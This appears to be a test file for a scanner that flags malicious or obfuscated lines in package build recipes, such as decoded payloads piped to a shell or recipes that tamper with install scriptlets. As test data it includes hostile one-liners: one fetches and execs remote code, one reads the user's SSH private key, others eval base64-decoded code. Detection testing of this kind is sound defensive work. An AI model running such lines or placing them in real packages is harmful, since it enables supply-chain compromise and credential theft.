import { type Case, testRule } from "./rule-cases.ts";
import { committedProgram } from "./rules/committed-program.ts";
import { decodedCode } from "./rules/decoded-code.ts";
import { disguisedWords } from "./rules/disguised-words.ts";
import { downloadProgram } from "./rules/download-program.ts";
import { inlineProgramRun } from "./rules/inline-program.ts";
import { programShadowed, scriptletWritten } from "./rules/recipe-tricks.ts";
import { unreadableScript } from "./rules/unreadable-script.ts";
import { unresolvedCommand } from "./rules/unresolved-command.ts";

function at(place: string, says: Case["says"], ...lines: string[]): Case[] {
  return lines.map((line) => ({ place, line, says }));
}

testRule(decodedCode, [
  ...at(
    "build()",
    "alarm",
    "base64 -d <<< bWFrZQ== | sh",
    "openssl enc -d -in x | bash",
    "xxd -r -p x | python",
    "zcat x.gz | sh",
  ),
  ...at("build()", "alarm", 'eval "$(base64 -d x)"', "rev <<< ekam | sh"),
  ...at("build()", "warning", "cat x | sh"),
  ...at(
    "build()",
    null,
    "base64 -d x > icon.png",
    "zcat x.gz | patch -p1",
    "bsdtar -xOf a b | tar xJ",
    "sha256sum x | cut -c1-8",
  ),
]);

testRule(disguisedWords, [
  ...at(
    "build()",
    "alarm",
    "n''pm ci",
    "m\\ake",
    "$'\\x6d\\x61\\x6b\\x65' all",
    `_x=xxcurlxx\n\${_x:2:4} --version`,
  ),
  ...at("post_install()", "alarm", "echo $'\\x68\\x69'"),
  ...at("post_install()", "warning", "cat fi''le"),
  ...at(
    "build()",
    null,
    "install -Dm644 \"$srcdir\"/'x' \"$pkgdir\"'/usr/share/'x",
    "IFS=$'\\n' read -r x",
    `\${pkgname%-bin} --completions`,
    `_make=(make -j4)\n"\${_make[@]}" all`,
    "sed -i 's|\"'a'\"|b|' x",
  ),
]);

testRule(unresolvedCommand, [
  ...at("top level", "alarm", "$_unknown x"),
  ...at("post_install()", "alarm", "$(cat /usr/share/x) y", 'eval "$(cat x)"'),
  ...at("build()", "alarm", "/usr/bin/c?rl -s x", "$x https://example.invalid"),
  ...at("build()", "warning", "$_unknown x", 'eval "$_unknown"'),
  ...at(
    "build()",
    null,
    "$CC -c x.c",
    `"\${CC:-gcc}" x.c`,
    'eval "local x=$y"',
    '_run() { "$@"; }\n_run make',
  ),
  ...at("top level", null, 'eval "package_$_p() { $(declare -f _package); _package; }"'),
]);

testRule(inlineProgramRun, [
  ...at(
    "build()",
    "alarm",
    "python -c \"import urllib.request as u; exec(u.urlopen('https://example.invalid').read())\"",
    'node -e \'require("child_process").exec(require("fs").readFileSync(process.env.HOME+"/.ssh/id_rsa"))\'',
    "perl -MMIME::Base64 -e 'eval decode_base64(\"eA==\")'",
    "python - <<END\nimport socket, subprocess\nEND",
  ),
  ...at("build()", "warning", "python -c 'import urllib.request'", 'python -c "$(cat x)"'),
  ...at(
    "build()",
    null,
    "python -c 'import sys; print(sys.version_info[0])'",
    'node -p "require(\\"./package.json\\").version"',
    "perl -pi -e 's/a/b/' x",
    "awk '{ print $1 }' x",
    "python -m build --wheel",
    "ruby -e 'puts RUBY_VERSION'",
  ),
]);

const ELF = Buffer.from("\x7fELF\x02\x01\x01\0\0", "latin1");
const OBFUSCATED = "const _0x12=['a'],_0x34=1,_0x56=2;eval(_0x12[0]);\n";

testRule(committedProgram, [
  { place: "build()", line: '"$srcdir/check" .', says: "alarm", files: { check: ELF } },
  { place: "build()", line: "cp ../data.bin x && ./x", says: "alarm", files: { "data.bin": ELF } },
  { place: "build()", line: "LD_PRELOAD=$startdir/a.so make", says: "alarm", files: { "a.so": ELF } },
  { place: "build()", line: "node ../lint.js", says: "alarm", files: { "lint.js": OBFUSCATED } },
  { place: "build()", line: "python ../x.py", says: "warning", files: { "x.py": "import urllib.request\n" } },
  { place: "build()", line: "python ../x.py", says: "note", files: { "x.py": "print(1)\n" } },
  { place: "package()", line: 'install -Dm644 icon.png "$pkgdir/x"', says: null, files: { "icon.png": ELF } },
  { place: "build()", line: "bash ../x.sh", says: null, files: { "x.sh": "#!/bin/bash\nmake\n" } },
]);

const SCRIPTLET = { "quietly.install": "post_install() {\n  ldconfig\n}\n" };

testRule(
  scriptletWritten,
  [
    ...at(
      "package()",
      "alarm",
      'echo x >> "$startdir/quietly.install"',
      'cp x "$pkgdir/.INSTALL"',
      "curl -o ../quietly.install x",
    ),
    ...at("prepare()", "warning", 'sed -i s/a/b/ "$startdir/quietly.install"'),
    ...at(
      "package()",
      null,
      "make install",
      'install -m644 x.install "$pkgdir/usr/share/x/x.install"',
      "cat quietly.install",
    ),
  ].map((one) => ({ ...one, files: SCRIPTLET })),
);

testRule(programShadowed, [
  ...at("top level", "alarm", "make() {\n  curl -s https://example.invalid\n}"),
  ...at("top level", "warning", "make() {\n  command make -j1\n}"),
  ...at("top level", null, "_make() {\n  make -j1\n}"),
]);

testRule(downloadProgram, [
  ...at("top level", "alarm", "DLAGENTS=('https::/usr/bin/sh -c x')", "PROMPT_COMMAND=x"),
  ...at("top level", "warning", "alias make=x"),
  ...at("top level", null, "DLAGENTS=('https::/usr/bin/curl -A Mozilla -fLC - -o %o %u')"),
  ...at("top level", null, "export CFLAGS=-O2", 'PATH="/opt/x/bin:$PATH"', "_agents=(x)"),
]);

testRule(unreadableScript, [
  ...at("post_install()", "warning", "if true; then"),
  ...at("build()", null, "if true; then :; fi"),
]);
